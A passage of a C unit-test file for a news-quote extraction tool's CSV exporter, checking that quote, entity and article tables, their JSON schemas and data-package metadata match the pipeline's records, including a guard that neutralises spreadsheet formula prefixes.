		parse_table(&t, keep_get(&k, files[f]), ',', 0);
		ck_assert_uint_eq(t.n_rows, 1);
		assert_header(&t, (np_csv_table_id)f);
		tb_free(&t);
	}
	keep_dispose(&k);
}
END_TEST

/* ---- records from the real pipeline -------------------------------------- */

/* What a text cell should read: CR/LF runs (with spaces around them) as one
 * space for quotes, then the formula guard. */
static char *expect_text(const char *s, int collapse)
{
	np_buf b = NP_BUF_INIT;
	np_buf_putc(&b, '\0');
	b.len = 0;
	for (size_t i = 0; s && s[i]; i++) {
		if (collapse && (s[i] == '\n' || s[i] == '\r')) {
			while (b.len && (b.data[b.len - 1] == ' ' || b.data[b.len - 1] == '\t'))
				b.len--;
			while (s[i + 1] == '\n' || s[i + 1] == '\r' || s[i + 1] == ' ' ||
			       s[i + 1] == '\t')
				i++;
			np_buf_putc(&b, ' ');
		} else {
			np_buf_putc(&b, s[i]);
		}
	}
	if (b.len && strchr("=+-@\t\r\n", b.data[0])) {
		np_buf_putc(&b, ' ');
		memmove(b.data + 1, b.data, b.len - 1);
		b.data[0] = '\'';
	}
	b.data[b.len] = '\0';
	return np_buf_detach(&b, NULL);
}

static void assert_text_cell(const table *t, size_t row, const char *col,
                             const char *value, int collapse)
{
	char *want = expect_text(value, collapse);
	ck_assert_msg(strcmp(cell(t, row, col), want) == 0, "row %zu %s: [%s], want [%s]",
	              row, col, cell(t, row, col), want);
	free(want);
}

static void check_pipeline_record(const char *path)
{
	size_t len;
	char *bytes = np_test_slurp(path, &len);
	ck_assert_msg(bytes != NULL, "cannot read %s", path);
	np_options o = NP_OPTIONS_INIT;
	np_ctx *ctx = np_ctx_new();
	np_record *rec = NULL;
	ck_assert_int_ge(np_process_buffer(&rec, "article", path, bytes, len, &o, ctx), 0);
	keep_output k;
	write_all(&k, &rec, 1, &o);
	size_t nq, ne, nw, np_;
	const np_quote *q = np_record_quotes(rec, &nq);
	const np_entity *e = np_record_entities(rec, &ne);
	np_record_warnings(rec, &nw);
	np_record_paragraphs(rec, &np_);
	const np_metadata *m = np_record_meta(rec);

	table t;
	parse_table(&t, keep_get(&k, "quotes.csv"), ',', 0);
	ck_assert_uint_eq(t.n_rows, nq + 1);
	for (size_t i = 0; i < nq; i++) {
		size_t r = i + 1;
		ck_assert_str_eq(cell(&t, r, "article_id"), m->id);
		ck_assert_str_eq(cell(&t, r, "type"), np_quote_type_name(q[i].type));
		assert_uint_cell(&t, r, "paragraph", q[i].paragraph + 1);
		assert_uint_cell(&t, r, "start", np_record_source_offset(rec, q[i].span.start));
		assert_uint_cell(&t, r, "end", np_record_source_offset(rec, q[i].span.end));
		assert_text_cell(&t, r, "speaker", q[i].speaker_name, 0);
		assert_text_cell(&t, r, "speaker_title", q[i].speaker_title, 0);
		assert_text_cell(&t, r, "cue", q[i].cue, 0);
		assert_text_cell(&t, r, "quote", q[i].text, 1);
		if (q[i].speaker_span.end > q[i].speaker_span.start) {
			assert_uint_cell(&t, r, "speaker_start",
			                 np_record_source_offset(rec, q[i].speaker_span.start));
			assert_uint_cell(&t, r, "speaker_end",
			                 np_record_source_offset(rec, q[i].speaker_span.end));
		}
		/* the offsets point into the input file */
		ck_assert_uint_le(strtoul(cell(&t, r, "end"), NULL, 10), len);
	}
	tb_free(&t);

	parse_table(&t, keep_get(&k, "entities.csv"), ',', 0);
	ck_assert_uint_eq(t.n_rows, ne + 1);
	for (size_t i = 0; i < ne; i++) {
		size_t r = i + 1;
		ck_assert_str_eq(cell(&t, r, "type"), np_entity_type_name(e[i].type));
		assert_text_cell(&t, r, "name", e[i].name, 0);
		assert_text_cell(&t, r, "titles", e[i].title, 0);
		assert_uint_cell(&t, r, "mentions", e[i].n_mentions);
		if (e[i].n_mentions) {
			char first[64];
			snprintf(first, sizeof first, "%zu..%zu",
			         np_record_source_offset(rec, e[i].mentions[0].start),
			         np_record_source_offset(rec, e[i].mentions[0].end));
			ck_assert(strncmp(cell(&t, r, "mention_offsets"), first, strlen(first)) == 0);
		}
	}
	tb_free(&t);

	parse_table(&t, keep_get(&k, "articles.csv"), ',', 0);
	ck_assert_uint_eq(t.n_rows, 2);
	ck_assert_str_eq(cell(&t, 1, "article_id"), m->id);
	assert_text_cell(&t, 1, "headline", m->headline, 0);
	assert_text_cell(&t, 1, "date", m->date, 0);
	assert_text_cell(&t, 1, "byline", m->byline, 0);
	assert_text_cell(&t, 1, "dateline", m->dateline, 0);
	assert_text_cell(&t, 1, "language", m->language, 0);
	assert_text_cell(&t, 1, "source", m->source, 0);
	assert_uint_cell(&t, 1, "paragraphs", np_);
	assert_uint_cell(&t, 1, "quotes", nq);
	ck_assert_uint_gt(strtoul(cell(&t, 1, "words"), NULL, 10), 0);
	tb_free(&t);

	keep_dispose(&k);
	np_record_free(rec);
	np_ctx_free(ctx);
	free(bytes);
}

START_TEST(pipeline_records_round_trip)
{
	check_pipeline_record(NP_SOURCE_DIR "/examples/sample-article.txt");
	if (np_test_shared_present())
		check_pipeline_record(np_test_shared("seed/kerry-lavrov.txt"));
	else
		fprintf(stderr, "note: %s absent: only the example checked\n",
		        np_test_shared("seed/kerry-lavrov.txt"));
}
END_TEST

/* ---- schemas ------------------------------------------------------------- */

static char *schema_path(const char *name)
{
	static char path[4096];
	snprintf(path, sizeof path, "%s/schemas/%s", NP_SOURCE_DIR, name);
	return path;
}

/* The written schema must be byte-identical to the file in schemas/. */
static void assert_same_as_repo(const char *name, const char *text)
{
	const char *path = schema_path(name);
	if (getenv("NP_UPDATE_SCHEMAS")) {
		FILE *f = fopen(path, "wb");
		ck_assert_ptr_nonnull(f);
		fputs(text, f);
		fclose(f);
	}
	size_t n;
	char *repo = np_test_slurp(path, &n);
	ck_assert_msg(repo != NULL, "%s missing", path);
	ck_assert_msg(n == strlen(text) && memcmp(repo, text, n) == 0,
	              "%s differs from what the exporter writes "
	              "(NP_UPDATE_SCHEMAS=1 check_csv regenerates it)", path);
	free(repo);
}

START_TEST(schemas_match_the_header_and_the_repo)
{
	np_record *rec = mk_story("s");
	np_options o = NP_OPTIONS_INIT;
	keep_output k;
	write_all(&k, &rec, 1, &o);
	static const char *const names[] = { "quotes", "entities", "articles" };
	static const char *const types[] = { "string", "integer" };
	for (int tb = 0; tb < NP_CSV_N_TABLES; tb++) {
		char file[64];
		snprintf(file, sizeof file, "%s.schema.json", names[tb]);
		const np_buf *b = keep_get(&k, file);
		ck_assert_ptr_nonnull(b);
		assert_same_as_repo(file, b->data);
		json_error_t err;
		json_t *s = json_loadb(b->data, b->len, JSON_REJECT_DUPLICATES, &err);
		ck_assert_msg(s != NULL, "%s: %s", file, err.text);
		json_t *fields = json_object_get(s, "fields");
		ck_assert(json_is_array(fields));
		/* the header of the written table, field by field */
		snprintf(file, sizeof file, "%s.csv", names[tb]);
		table t;
		parse_table(&t, keep_get(&k, file), ',', 0);
		ck_assert_uint_eq(json_array_size(fields), t.width[0]);
		for (size_t i = 0; i < t.width[0]; i++) {
			json_t *f = json_array_get(fields, i);
			ck_assert_str_eq(json_string_value(json_object_get(f, "name")),
			                 t.rows[0][i]);
			const char *ty = json_string_value(json_object_get(f, "type"));
			ck_assert(ty && (strcmp(ty, types[0]) == 0 || strcmp(ty, types[1]) == 0));
			ck_assert_int_eq(strcmp(ty, "integer") == 0,
			                 np_csv__column_numeric((np_csv_table_id)tb, i));
			const char *d = json_string_value(json_object_get(f, "description"));
			ck_assert(d && strlen(d) > 10);
			/* integer cells parse as integers, enums hold */
			json_t *en = json_object_get(json_object_get(f, "constraints"), "enum");
			for (size_t r = 1; r < t.n_rows; r++) {
				const char *v = t.rows[r][i];
				if (strcmp(ty, "integer") == 0 && *v) {
					char *end;
					strtoul(v, &end, 10);
					ck_assert_msg(*end == '\0', "%s: '%s' is no integer",
					              t.rows[0][i], v);
				}
				if (en) {
					int found = 0;
					for (size_t e = 0; e < json_array_size(en); e++)
						found |= strcmp(json_string_value(json_array_get(en, e)), v) == 0;
					ck_assert_msg(found, "'%s' not in the enum", v);
				}
			}
		}
		tb_free(&t);
		json_t *pk = json_object_get(s, "primaryKey");
		ck_assert(json_is_array(pk) && json_array_size(pk) >= 1);
		ck_assert_str_eq(json_string_value(json_array_get(pk, 0)), "article_id");
		if (tb == NP_CSV_T_QUOTES) {
			ck_assert_str_eq(json_string_value(json_array_get(pk, 1)), "quote_id");
			json_t *ty = json_array_get(fields, 2);
			json_t *en = json_object_get(json_object_get(ty, "constraints"), "enum");
			ck_assert_uint_eq(json_array_size(en), 3);
		}
		json_decref(s);
	}
	/* CSVW: one table per CSV, its columns the header */
	const np_buf *mb = keep_get(&k, "csv-metadata.json");
	assert_same_as_repo("csv-metadata.json", mb->data);
	json_error_t err;
	json_t *m = json_loadb(mb->data, mb->len, JSON_REJECT_DUPLICATES, &err);
	ck_assert_msg(m != NULL, "csv-metadata.json: %s", err.text);
	ck_assert_str_eq(json_string_value(json_array_get(json_object_get(m, "@context"), 0)),
	                 "http://www.w3.org/ns/csvw");
	json_t *tables = json_object_get(m, "tables");
	ck_assert_uint_eq(json_array_size(tables), 3);
	for (int tb = 0; tb < NP_CSV_N_TABLES; tb++) {
		json_t *tj = json_array_get(tables, (size_t)tb);
		char file[64];
		snprintf(file, sizeof file, "%s.csv", names[tb]);
		ck_assert_str_eq(json_string_value(json_object_get(tj, "url")), file);
		json_t *cols = json_object_get(json_object_get(tj, "tableSchema"), "columns");
		ck_assert_uint_eq(json_array_size(cols), np_csv__n_columns((np_csv_table_id)tb));
		for (size_t i = 0; i < json_array_size(cols); i++)
			ck_assert_str_eq(json_string_value(json_object_get(json_array_get(cols, i),
			                                                   "name")),
			                 np_csv__column_name((np_csv_table_id)tb, i));
	}
	json_t *dialect = json_object_get(m, "dialect");
	ck_assert_str_eq(json_string_value(json_object_get(dialect, "delimiter")), ",");
	ck_assert(json_is_true(json_object_get(dialect, "header")));
	json_decref(m);
	/* the data package: one resource per table, pointing at its schema */
	const np_buf *pb = keep_get(&k, "datapackage.json");
	assert_same_as_repo("datapackage.json", pb->data);
	json_t *dp = json_loadb(pb->data, pb->len, JSON_REJECT_DUPLICATES, &err);
	ck_assert_msg(dp != NULL, "datapackage.json: %s", err.text);
	json_t *res = json_object_get(dp, "resources");
	ck_assert_uint_eq(json_array_size(res), 3);
	for (int tb = 0; tb < NP_CSV_N_TABLES; tb++) {
		json_t *r = json_array_get(res, (size_t)tb);
		char file[64];
		ck_assert_str_eq(json_string_value(json_object_get(r, "name")), names[tb]);
		snprintf(file, sizeof file, "%s.csv", names[tb]);
		ck_assert_str_eq(json_string_value(json_object_get(r, "path")), file);
		snprintf(file, sizeof file, "%s.schema.json", names[tb]);
		ck_assert_str_eq(json_string_value(json_object_get(r, "schema")), file);
		ck_assert_ptr_nonnull(keep_get(&k, file));
	}
	json_decref(dp);
	keep_dispose(&k);
	np_record_free(rec);
}
END_TEST

Suite *csv_suite(void)
{
	Suite *s = suite_create("csv");
	TCase *tc = tcase_create("tables");
	tcase_add_test(tc, quotes_table_matches_the_record);
	tcase_add_test(tc, entities_and_articles_match_the_record);
	tcase_add_loop_test(tc, formula_payloads_are_neutralised, 0, (int)N_PAYLOADS);
	tcase_add_loop_test(tc, csv_raw_keeps_payloads_verbatim, 0, (int)N_PAYLOADS);
	tcase_add_test(tc, cells_are_quoted_only_when_needed);
	tcase_add_test(tc, bom_and_semicolon_variants);
	tcase_add_test(tc, batch_keeps_input_order_and_is_deterministic);
	tcase_add_test(tc, big_batches_spill_to_disk_with_the_same_bytes);
	tcase_add_test(tc, spilled_tables_stream_to_a_folder_with_the_same_bytes);
	tcase_add_test(tc, concurrent_writers_never_interleave_articles);
	tcase_add_test(tc, extract_puts_only_the_quote_table);
	tcase_add_test(tc, an_empty_batch_gives_header_only_tables);
	tcase_add_test(tc, schemas_match_the_header_and_the_repo);
	tcase_add_test(tc, pipeline_records_round_trip);
	suite_add_tcase(s, tc);
	return s;
}

NP_CHECK_MAIN(csv_suite)
